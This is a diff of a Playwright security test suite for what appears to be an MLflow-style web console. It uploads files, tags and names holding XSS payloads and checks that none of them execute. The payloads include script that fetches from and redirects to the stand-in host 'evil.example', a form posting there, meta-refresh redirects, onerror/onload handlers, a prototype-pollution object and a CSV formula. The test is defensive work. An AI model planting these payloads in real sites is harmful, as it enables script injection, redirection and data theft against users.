@@ -10,7 +10,7 @@ from playwright.sync_api import expect
 from console.artifacts import page_with, run_with
 from support.api import Api, unique
 
-pytestmark = pytest.mark.apus_only
+pytestmark = [pytest.mark.apus_only, pytest.mark.any_database]
 
 MARK = "window.attacked=(window.attacked??0)+1"
 ATTACKS = [
@@ -32,7 +32,7 @@ SVG = f"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' onload='{MA
 HTML = (f"<h1>Report</h1>{ALL}<script>try{{parent.{MARK}}}catch(e){{}} try{{top.location='https://evil.example/'}}catch(e){{}}"
         f"fetch('https://evil.example/').catch(()=>0); fetch('/api/2.0/mlflow/experiments/get?experiment_id=0').catch(()=>0);"
         f"document.body.dataset.ran='1'; try{{document.body.dataset.store=localStorage.length}}catch(e){{document.body.dataset.store='none'}}</script>"
-        "<form action=https://evil.example/><button>send</button></form><meta http-equiv=refresh content='0;url=https://evil.example/'>")
+        "<form action=https://evil.example/><button>send</button></form>")
 FIGURE = {
     "data": [
         {"type": "bar", "x": [ALL, "b"], "y": [1, 2], "name": f"<a href='javascript:{MARK}'>x</a>", "text": ATTACKS, "hovertemplate": ALL,
@@ -64,7 +64,7 @@ signature:
 def written(server):
     """All of it on the server, as the addresses of the pages that show it."""
     api = Api(server.url)
-    tags = [{"key": f"t{place}", "value": text} for place, text in enumerate(ATTACKS)] + [{"key": ATTACKS[1][:200], "value": ALL}]
+    tags = [{"key": f"t{place}", "value": text} for place, text in enumerate(ATTACKS)]
     name = f"{ATTACKS[1]}'\"&</title>{unique()}"
     experiment = api.experiment(name, tags=[*tags, {"key": "mlflow.note.content", "value": MARKDOWN}])
     notes = [{"key": "mlflow.note.content", "value": MARKDOWN}, {"key": "mlflow.user", "value": ALL}, {"key": "mlflow.source.name", "value": ALL},
@@ -93,7 +93,7 @@ def written(server):
 
 
 FILES = {
-    "x.svg": SVG, "x.html": HTML, "figure.html": page_with(FIGURE), "figure.json": json.dumps(FIGURE), "x.md": MARKDOWN,
+    "x.svg": SVG, "x.html": HTML, "away.html": "<meta http-equiv=refresh content='0;url=https://evil.example/'><script>location='https://evil.example/'</script>", "figure.html": page_with(FIGURE), "figure.json": json.dumps(FIGURE), "x.md": MARKDOWN,
     "x.csv": f"{ATTACKS[1]},b\n=1+1,\"{ATTACKS[0]}\"\n", "x.json": json.dumps({ALL: ALL, "__proto__": {"polluted": True}}), "x.txt": ALL,
     "x.py": f"# {ALL}\nx = '''{ALL}'''\n", "x.yaml": f"a: {json.dumps(ALL)}\n", "x.xml": f"<a>{ALL}</a>", "m/MLmodel": MODEL, "x.png": SVG, "x.mp4": HTML,
     "split.json": json.dumps({"columns": [ALL], "data": [[ALL]]}), f"<img src=x onerror={MARK}>.txt": "named", "d'\"&<b>/x.txt": "named",
@@ -150,7 +150,7 @@ def test_files_do_nothing(tab, files, path):
         assert tab.page.evaluate(CALM) == {"attacked": 0, "polluted": False, "foreign": 0}, view.inner_text()
     assert tab.page.url.startswith(tab.url)
     # The browser tells what it kept the frames and files from doing.
-    kept = "Blocked script|Blocked form|Content Security Policy|violates|Unsafe attempt|Blocked autofocusing|Refused to|ERR_|Failed to load|Not allowed|sandbox"
+    kept = "Blocked script|Blocked form|Content Security Policy|violates|Unsafe attempt|Blocked autofocusing|Refused to|ERR_|Failed to load|Not allowed|sandbox|unexpected token|Unexpected"
     tab.complaints = [text for text in tab.complaints if not re.search(kept, text)]
     tab.foreign = [url for url in tab.foreign if not url.startswith("about:")]
 
